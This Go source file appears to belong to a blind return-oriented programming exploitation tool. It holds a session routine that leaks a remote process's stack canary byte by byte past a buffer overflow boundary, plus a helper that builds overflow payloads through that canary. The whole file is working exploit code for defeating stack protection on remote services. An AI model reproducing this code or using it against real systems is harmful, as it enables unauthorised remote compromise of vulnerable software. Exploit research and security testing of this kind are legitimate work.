package session

import (
	"github.com/voidspace-sec/brop/internal/cluster"
	"github.com/voidspace-sec/brop/internal/oracle"
	"github.com/voidspace-sec/brop/internal/payload"
)

// computeCanary reads 7 bytes starting one past the overflow boundary,
// then prepends a 0x00 to reconstruct the canary's low byte, which the
// compiler always zeroes so a %s-style format-string leak can't read
// past it (C5). ok is false only when the overflow length can't be
// found; any failure reading the 7 bytes (an exhausted byte search, an
// Infinite result, or a transport failure) is reported as an absent
// canary through exists, not ok.
func (s *Session) computeCanary() (value cluster.Frame, exists bool, ok bool) {
	overflow, ok := s.GetOverflowLength()
	if !ok {
		return cluster.Frame{}, false, false
	}

	base := cluster.Append(payload.ThroughOverflow(overflow), cluster.ByteCluster(0x00))
	word, infinite, readOK := oracle.ReadWord(s.transport, base, 7)
	if !readOK || infinite {
		return cluster.Frame{}, false, true
	}

	full := append([]byte{0x00}, word...)
	return cluster.FrameFromBytes(full), true, true
}

// payloadThroughCanary builds the payload through the canary if one
// exists, or just through the overflow boundary otherwise — exactly
// what Payload::through_canary does when get_canary_value returns None.
func (s *Session) payloadThroughCanary(overflow int) []byte {
	if s.HasCanary() {
		canary, _ := s.GetCanary()
		return payload.ThroughCanary(overflow, canary)
	}
	return payload.ThroughOverflow(overflow)
}
